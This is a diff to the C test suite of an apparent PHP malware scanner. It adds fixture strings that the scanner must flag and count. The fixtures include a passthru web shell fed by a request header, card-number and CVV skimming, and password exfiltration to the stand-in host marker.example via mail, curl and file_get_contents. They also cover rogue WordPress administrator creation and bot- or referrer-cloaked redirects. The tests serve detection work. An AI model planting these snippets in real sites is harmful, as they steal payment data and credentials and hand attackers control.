@@ -126,6 +126,7 @@ static const struct row direct[] = {
      "name file_put_contents request|write file_put_contents request"},
     {"eval($m);", "eval eval undefined"},
     {"include 'php://input';", "include include request"},
+    {"passthru(getenv('HTTP_X_M'));", "command passthru server"},
 };
 
 /* What stands around it or was promised of it binds it, or does not. */
@@ -150,6 +151,7 @@ static const struct row flows[] = {
     {"$a['x']['y'] = $_GET['m']; $b = $a['x']; eval($b['y']);", "eval eval request"},
     {"$a = array('k' => $_GET['m'], 'n' => 1); eval($a['k']);", "eval eval request"},
     {"$a = &$b; $b = $_GET['m']; eval($a);", "eval eval request"},
+    {"if (!$_GET['m']) $_GET['m'] = 'marker()'; eval($_GET['m']);", "eval eval request"},
     {"foreach ($_POST as $k => $v) $$k = $v; eval($m);", "eval eval undefined"},
     {"list($a, $b) = array('x', $_GET['m']); eval($b);", "eval eval request"},
     {"[, $b] = [1, $_GET['m']]; eval($b);", "eval eval request"},
@@ -433,6 +435,61 @@ static void test_counts(void)
     test_number("evals", seen->counts[PHP_COUNT_EVALS], 1);
 }
 
+static const struct {
+    const char *source;
+    enum php_count what;
+    unsigned count;
+} counted[] = {
+    {"mail('m@marker.example', 'm', $_POST['payment']['cc_number']);", PHP_COUNT_CARDS_TAKEN, 1},
+    {"function f($i) { $d = 'n=' . $i->getCcNumber(); $c = curl_init('http://marker.example/');"
+     " curl_setopt($c, CURLOPT_POSTFIELDS, base64_encode($d)); curl_exec($c); }",
+     PHP_COUNT_CARDS_TAKEN, 1},
+    {"file_get_contents('http://marker.example/?' . base64_encode($_POST['cvv']));",
+     PHP_COUNT_CARDS_TAKEN, 1},
+    {"file_put_contents('a.jpg', $_POST['cc_number'] . '|', FILE_APPEND);", PHP_COUNT_CARDS_TAKEN,
+     1},
+    {"$x = $i->getCcNumber(); $db->query($x); echo $x;", PHP_COUNT_CARDS_TAKEN, 0},
+    {"mail($to, 'login', $_POST['user'] . ':' . $_POST['password']);", PHP_COUNT_PASSWORDS_SENT, 1},
+    {"function login($user, $password) { file_get_contents(\"http://marker.example/$password\"); }",
+     PHP_COUNT_PASSWORDS_SENT, 1},
+    {"mail($to, 'login', md5($_POST['password']));", PHP_COUNT_PASSWORDS_SENT, 0},
+    {"curl_setopt($c, CURLOPT_USERPWD, $a['password']);", PHP_COUNT_PASSWORDS_SENT, 0},
+    {"$u = new WP_User($id); $u->set_role('administrator');", PHP_COUNT_ADMINS_MADE, 1},
+    {"wp_insert_user(array('user_login' => 'm', 'role' => 'administrator'));",
+     PHP_COUNT_ADMINS_MADE, 1},
+    {"wp_insert_user(array('user_login' => 'm', 'role' => 'subscriber'));", PHP_COUNT_ADMINS_MADE,
+     0},
+    {"if (strpos($_SERVER['HTTP_USER_AGENT'], 'bot'))"
+     " echo file_get_contents('http://marker.example/' . $_SERVER['HTTP_HOST']);",
+     PHP_COUNT_DOORWAYS, 1},
+    {"if (preg_match('/marker/', $_SERVER['HTTP_REFERER']))"
+     " header('Location: http://marker.example/');",
+     PHP_COUNT_DOORWAYS, 1},
+    {"$r = strtolower($_SERVER['HTTP_REFERER']); $is = strpos($r, 'marker') !== false;"
+     " if ($is) header('Location: http://marker.example/');",
+     PHP_COUNT_DOORWAYS, 1},
+    {"function is_bot() { if (stripos($_SERVER['HTTP_USER_AGENT'], 'bot')) return true; return"
+     " false; } if (is_bot()) echo file_get_contents('http://marker.example/');",
+     PHP_COUNT_DOORWAYS, 1},
+    {"header('Location: http://marker.example/');", PHP_COUNT_DOORWAYS, 0},
+    {"foreach ($_POST as $k => $v) $m .= $k . $v; mail($to, 'm', $m);", PHP_COUNT_REQUESTS_SENT, 1},
+    {"$c = curl_init('http://marker.example/'); curl_setopt($c, CURLOPT_POSTFIELDS,"
+     " base64_encode(serialize($_POST)));",
+     PHP_COUNT_REQUESTS_SENT, 1},
+    {"mail($to, 'm', $_POST['text']);", PHP_COUNT_REQUESTS_SENT, 0},
+};
+
+static void test_counted(void)
+{
+    for (size_t i = 0; i < sizeof counted / sizeof counted[0]; i++) {
+        struct strbuf text = {0};
+        strbuf_format(&text, "<?php %s", counted[i].source);
+        const struct php_sightings *seen = php_run_file(run, strbuf_span(&text));
+        test_number(counted[i].source, seen->counts[counted[i].what], counted[i].count);
+        strbuf_clear(&text);
+    }
+}
+
 static void test_trail(void)
 {
     struct strbuf out = {0};
@@ -462,6 +519,7 @@ int main(void)
     CHECK(layers);
     CHECK(clean);
     test_counts();
+    test_counted();
     test_trail();
     test_endless();
     test_large();
